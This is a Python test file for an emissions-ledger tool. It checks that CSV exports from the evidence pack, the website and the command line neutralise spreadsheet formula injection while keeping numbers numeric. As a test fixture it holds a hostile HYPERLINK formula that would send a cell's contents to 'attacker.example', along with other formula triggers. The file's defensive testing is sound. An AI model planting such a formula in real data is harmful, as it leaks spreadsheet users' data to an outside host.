"""Exported CSVs neutralise spreadsheet formulas (OWASP CSV injection) and keep numbers numeric.

A facility group named ``=HYPERLINK(...)`` and activity references ``+1+1``, ``@SUM(A1)``,
``-2+3`` and ``=1+1`` are imported; the evidence pack, the site's CSV downloads (server
and static build) and ``envledger inventory|explain --format csv`` must write them with a
leading ``'``, while figures such as the 2022 change of -20 % stay plain numbers: CD-OF
used 100 MWh in 2021 and 80 MWh in 2022, (80 - 100) / 100 = -20 %.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pyarrow as pa
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from envledger.cli import app
from envledger.io.cells import escape_formula, escape_formulas
from envledger.services.evidence.pack import write_evidence_pack
from envledger.services.inventory.calculate import prepare_ledger
from envledger.services.ledger.importing import import_activities, import_facilities
from envledger.services.publication.publishing import publish
from envledger.settings import Settings
from envledger.store.db import get_engine
from envledger.web import build_site, create_app
from tests.support.evidence_reperform import close, measure, reperform
from tests.support.postgres import fresh_postgres_database
from tests.support.publication import ACTIVITIES, BACKENDS

GROUP = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
REFERENCES = ("+1+1", "@SUM(A1)", "-2+3", "=1+1")
FACILITIES = (
    "code,name,type,country,province,grid_region,groups,year,floor_area_m2,headcount,"
    "in_boundary\n"
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module", params=BACKENDS)
def hostile(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Settings]:
    """One office whose group and references look like formulas; 2021 and 2022 published."""
    folder = tmp_path_factory.mktemp("hostile")
    if request.param == "sqlite":
        url = f"sqlite:///{folder / 'ledger.db'}"
    else:
        url = fresh_postgres_database(request.getfixturevalue("postgres_server"))
    prepare_ledger(url)
    quoted_group = '"' + GROUP.replace('"', '""') + '"'
    (folder / "facilities.csv").write_text(FACILITIES + "".join(
        f"CD-OF,@SUM(A1) office,office,CN,CN-SC,CN-Southwest,{quoted_group},{y},1000,100,yes\n"
        for y in (2021, 2022)
    ))
    header = ACTIVITIES.rstrip("\n") + ",reference\n"
    rows = [
        ("2021-01-01", "2021-06-30", 50, REFERENCES[0]),
        ("2021-07-01", "2021-12-31", 50, REFERENCES[1]),
        ("2022-01-01", "2022-06-30", 40, REFERENCES[2]),
        ("2022-07-01", "2022-12-31", 40, REFERENCES[3]),
    ]
    (folder / "activities.csv").write_text(header + "".join(
        f'CD-OF,{start},{end},electricity,{mwh},MWh,invoice,"{reference}"\n'
        for start, end, mwh, reference in rows
    ))
    import_facilities(url, folder / "facilities.csv")
    import_activities(url, folder / "activities.csv")
    settings = Settings(database_url=url)
    publish(settings, 2021)
    publish(settings, 2022)
    yield settings
    get_engine(url).dispose()


@pytest.mark.parametrize(("text", "written"), [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("+1+1", "'+1+1"), ("-A1", "'-A1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\r=1", "'\r=1"), ("-12.5", "-12.5"), ("+3e-2", "+3e-2"),
    ("-.5", "-.5"), ("1-2", "1-2"), ("-", "'-"), ("", ""), ("a=b", "a=b"),
])
def test_formula_texts_get_a_quote_and_numbers_stay(text: str, written: str) -> None:
    assert escape_formula(text) == written
    table = escape_formulas(pa.table({"text": [text, None], "n": [-12.5, 1.0]}))
    assert table.to_pydict() == {"text": [written, None], "n": [-12.5, 1.0]}


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _unsafe(value: str) -> bool:
    """A cell a spreadsheet would run as a formula (plain numbers are data, not formulas)."""
    try:
        float(value)
    except ValueError:
        return value.startswith(TRIGGERS)
    return False


def test_the_evidence_pack_neutralises_formulas_and_still_reperforms(
    hostile: Settings, tmp_path: Path
) -> None:
    out = tmp_path / "evidence-2022.zip"
    write_evidence_pack(hostile, 2022, out)
    with zipfile.ZipFile(out) as pack:
        tables = {name: _cells(pack.read(name).decode()) for name in pack.namelist()
                  if name.endswith(".csv")}
    unsafe = [(name, key, value) for name, rows in tables.items() for row in rows
              for key, value in row.items() if value and _unsafe(value)]
    assert unsafe == []
    assert {r["reference"] for r in tables["activity_rows.csv"]} == {"'-2+3", "'=1+1"}
    assert {r["group_name"] for r in tables["group_members.csv"]} == {"'" + GROUP}
    # numbers stay numbers: 40 + 40 = 80 MWh, and the pack re-performs from its CSVs alone
    assert sorted(float(r["quantity"]) for r in tables["activity_rows.csv"]) == [40.0, 40.0]
    done = reperform(out)
    for path in done["company"]:
        assert close(done["company"][path], measure(done["published"]["company"], path)), path
    assert close(done["company"]["emissions.total"], 80 * 0.1404)  # 80 MWh x 0.1404 t/MWh


def _site_csvs(hostile: Settings, tmp_path: Path) -> dict[str, str]:
    """Every section CSV of the server (one year and all years) and of the static build."""
    client = TestClient(create_app(hostile))
    texts = {}
    for section in client.get("/api/v1/years").json()["sections"]:
        for query in ("", "?year=2022"):
            response = client.get(f"/api/v1/sections/{section}.csv{query}")
            assert response.status_code == 200
            texts[f"server {section}{query}"] = response.text
    out = tmp_path / "site"
    build_site(hostile, out)
    for path in sorted((out / "api" / "v1" / "sections").rglob("*.csv")):
        texts[f"static {path.relative_to(out)}"] = path.read_text(encoding="utf-8")
    return texts


def test_the_site_csv_downloads_neutralise_formulas_and_keep_numbers(
    hostile: Settings, tmp_path: Path
) -> None:
    texts = _site_csvs(hostile, tmp_path)
    rows = [(name, row) for name, text in texts.items() for row in _cells(text)]
    unsafe = [(name, key, value) for name, row in rows for key, value in row.items()
              if value and _unsafe(value)]
    assert unsafe == []
    groups = {row["group"] for _, row in rows if row["group"]}
    assert groups == {"'" + GROUP}
    changes = [
        float(row["change_vs_previous_year_pct"]) for name, row in rows
        if row["section"] == "ghg" and row["metric"] == "total" and row["year"] == "2022"
    ]
    assert len(changes) == 4  # one year and every year, from the server and the static build
    assert changes == pytest.approx([-20.0] * 4)  # (80 - 100) / 100 x 100, still a number


def test_the_command_line_csv_output_neutralises_formulas(hostile: Settings) -> None:
    env = {"ENVLEDGER_DATABASE_URL": hostile.database_url}
    result = CliRunner().invoke(app, ["inventory", "--year", "2022", "--format", "csv"], env=env)
    assert result.exit_code == 0, result.output
    rows = _cells(result.stdout)
    assert {row["name"] for row in rows if row["level"] == "group"} == {"'" + GROUP}
    assert [(name, value) for row in rows for name, value in row.items()
            if value and _unsafe(value)] == []
    explained = CliRunner().invoke(app, ["explain", "--year", "2022", "--facility", "CD-OF",
                                         "--format", "csv"], env=env)
    assert explained.exit_code == 0, explained.output
    assert [(name, value) for row in _cells(explained.stdout) for name, value in row.items()
            if value and _unsafe(value)] == []
